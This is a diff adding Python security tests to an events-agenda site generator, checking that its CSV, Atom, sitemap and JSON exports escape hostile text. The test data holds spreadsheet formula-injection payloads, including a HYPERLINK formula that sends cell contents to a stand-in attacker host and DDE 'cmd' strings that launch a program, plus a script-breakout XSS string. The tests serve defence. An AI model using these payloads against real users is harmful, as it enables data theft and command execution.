@@ -13,6 +13,8 @@ import extruct
 import feedparser
 import jsonschema
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from agenda.pipeline import check_site
 from tests.conftest import REPO, BuiltSite
@@ -251,3 +253,207 @@ def test_venues_csv(built_site):
     )
     assert [r["postal_code"] for r in rows] == ["88000", "68200", "08200"]
     assert rows[2]["name"] == "Salle des fêtes; Sedan"
+
+
+# Nothing gets out: each payload read back by its real consumer ------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"clic")',
+    "organizer": "+cmd|' /C calc'!A0",
+    "venue_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "city": "-2+3+cmd|' /C calc'!A0",
+    "address": "\t=1+1",
+    "conditions": "\r=1+1",
+    "registration": "=2+5",
+}
+
+
+def formula_catalogue(site):
+    from dataclasses import replace
+
+    from tests.test_ical import hostile_catalogue
+
+    catalogue, links, history = hostile_catalogue(site)
+    partner = replace(catalogue.partners["la-nef"], name=FORMULAS["organizer"])
+    venue = replace(
+        catalogue.venues["mediatheque-epinal"],
+        name=FORMULAS["venue_name"],
+        city=FORMULAS["city"],
+        address=FORMULAS["address"],
+        access="=1+1",
+        phone="+33 3 29 00 00 00",
+        url="",
+        lon=-1.5,
+    )
+    event = replace(
+        catalogue.events["atelier"],
+        title=FORMULAS["title"],
+        price=FORMULAS["conditions"],
+        registration=FORMULAS["registration"],
+        online="",
+        age_min=8,
+    )
+    return (
+        replace(
+            catalogue,
+            partners={partner.slug: partner},
+            venues={venue.slug: venue},
+            events={event.slug: event},
+            upcoming=(event,),
+            past=(),
+        ),
+        links,
+        history,
+    )
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_events_csv_neutralises_formulas_in_text_cells_and_keeps_numbers(site):
+    from agenda.exports import NUMERIC_CSV_COLUMNS, events_csv
+
+    catalogue, links, _ = formula_catalogue(site)
+    rows = list(csv.DictReader(io.StringIO(events_csv(catalogue, links).decode("utf-8"))))
+    assert len(rows) == 2  # one per session: nothing split a row
+    for row in rows:
+        for column, value in row.items():
+            if column in NUMERIC_CSV_COLUMNS:
+                continue
+            assert not value.startswith(FORMULA_START), (column, value)
+        assert row["title"] == "'" + FORMULAS["title"]
+        assert row["organizer"] == "'" + FORMULAS["organizer"]
+        assert row["venue_name"] == "'" + FORMULAS["venue_name"]
+        assert row["city"] == "'" + FORMULAS["city"]
+        assert row["address"] == "'" + " =1+1"
+        assert row["conditions"] == "'" + "\n=1+1"
+        assert row["registration"] == "'=2+5"
+        assert float(row["longitude"]) == -1.5  # a number stays a number
+        assert row["age_min"] == "8"
+
+
+def test_venues_csv_neutralises_formulas_and_keeps_coordinates(site):
+    from agenda.exports import venues_csv
+
+    catalogue, links, _ = formula_catalogue(site)
+    rows = list(csv.DictReader(io.StringIO(venues_csv(catalogue, links).decode("utf-8"))))
+    assert len(rows) == 1
+    row = rows[0]
+    assert row["name"] == "'" + FORMULAS["venue_name"]
+    assert row["access"] == "'=1+1"
+    assert row["phone"] == "'+33 3 29 00 00 00"
+    assert row["longitude"] == "-1.5" and float(row["latitude"]) > 0
+
+
+def test_csv_cells_lose_control_characters_but_stay_one_row(site):
+    from agenda.exports import events_csv
+    from tests.test_ical import HOSTILE, hostile_catalogue
+
+    catalogue, links, _ = hostile_catalogue(site)
+    rows = list(csv.reader(io.StringIO(events_csv(catalogue, links).decode("utf-8"))))
+    assert len(rows) == 3 and len({len(r) for r in rows}) == 1
+    title = rows[1][1]
+    assert "\x1b" not in title and "\x00" not in title and "\ufffe" not in title
+    assert title.startswith("Nef")
+    assert HOSTILE.startswith("Nef")
+
+
+def test_atom_feed_with_hostile_text_is_well_formed_xml(site):
+    from agenda.exports import atom_feed
+    from agenda.text import xml_text
+    from tests.test_ical import HOSTILE, hostile_catalogue
+
+    catalogue, links, history = hostile_catalogue(site)
+    data = atom_feed(catalogue, links, history)
+    root = ET.fromstring(data)  # raises on any character XML 1.0 forbids
+    ns = {"a": "http://www.w3.org/2005/Atom"}
+    assert len(root.findall("a:entry", ns)) == 1
+    feed = feedparser.parse(data)
+    assert not feed.bozo, feed.get("bozo_exception")
+    assert len(feed.entries) == 1
+    summary = root.find("a:entry/a:summary", ns)
+    assert summary is not None and summary.text == xml_text(HOSTILE)
+    title = root.find("a:entry/a:title", ns)
+    assert title is not None and title.text is not None
+    assert title.text.endswith(" – " + xml_text(HOSTILE))
+    assert feed.entries[0].summary == xml_text(HOSTILE)
+    assert root.find("a:title", ns).text == xml_text(HOSTILE)
+
+
+def test_sitemap_with_hostile_paths_is_well_formed_xml():
+    from agenda.exports import sitemap_xml
+    from agenda.urls import Links
+
+    data = sitemap_xml(["/evenements/a\x00b\x1b/", "/x\ufffe/"], Links("https://example.org"))
+    root = ET.fromstring(data)
+    ns = {"s": "http://www.sitemaps.org/schemas/sitemap/0.9"}
+    assert [loc.text for loc in root.findall("s:url/s:loc", ns)] == [
+        "https://example.org/evenements/ab/",
+        "https://example.org/x/",
+    ]
+
+
+def test_open_data_json_carries_hostile_text_as_data(site):
+    from dataclasses import replace
+
+    from agenda.exports import events_json, venues_json
+    from tests.test_ical import HOSTILE, hostile_catalogue
+
+    catalogue, links, _ = hostile_catalogue(site)
+    document = json.loads(events_json(catalogue, links))
+    assert [e["title"] for e in document["events"]] == [HOSTILE]
+    assert json.loads(venues_json(catalogue, links))["venues"][0]["name"] == HOSTILE
+    # A lone surrogate (refused by validation) is replaced, not a crash.
+    event = replace(catalogue.events["atelier"], title="a\ud800b")
+    broken = replace(catalogue, events={"atelier": event}, upcoming=(event,), past=())
+    assert json.loads(events_json(broken, links))["events"][0]["title"] == "a?b"
+
+
+def test_json_ld_cannot_close_its_script_element(site):
+    from dataclasses import replace
+
+    from agenda.exports import event_jsonld
+    from agenda.render import make_environment
+    from tests.test_ical import hostile_catalogue
+
+    catalogue, links, _ = hostile_catalogue(site)
+    title = "</script><script>alert(1)</script><!--"
+    event = replace(catalogue.events["atelier"], title=title)
+    env = make_environment(site.root / "templates", links)
+    snippet = env.from_string(
+        '{% for item in items %}<script type="application/ld+json">{{ item|tojson }}'
+        "</script>{% endfor %}"
+    ).render(items=event_jsonld(event, catalogue, links))
+    from tests.htmlcheck import read_html
+
+    scripts = read_html(snippet).scripts
+    assert len(scripts) == 2  # one per session, none injected
+    assert all(attrs.get("type") == "application/ld+json" for attrs, _ in scripts)
+    assert [json.loads(body)["name"] for _, body in scripts] == [title, title]
+
+
+@settings(max_examples=300, deadline=None)
+@given(text=st.text())
+def test_any_text_is_one_safe_csv_cell_and_well_formed_xml(text):
+    from agenda.exports import csv_text
+    from agenda.text import xml_text
+
+    buffer = io.StringIO()
+    csv.writer(buffer, lineterminator="\r\n").writerow([csv_text(text), "1.5"])
+    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
+    assert row[1] == "1.5"
+    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
+    element = ET.Element("summary")
+    element.text = xml_text(text)
+    element.set("label", xml_text(text))
+    parsed = ET.fromstring(ET.tostring(element, encoding="utf-8"))
+    assert parsed.text in (xml_text(text), None)
+    assert parsed.get("label") == xml_text(text)
+
+
+def test_a_carriage_return_reads_back_as_written_in_xml():
+    from agenda.text import xml_text
+
+    element = ET.Element("t")
+    element.text = xml_text("a\rb\r\nc")
+    assert ET.fromstring(ET.tostring(element)).text == "a\nb\nc"
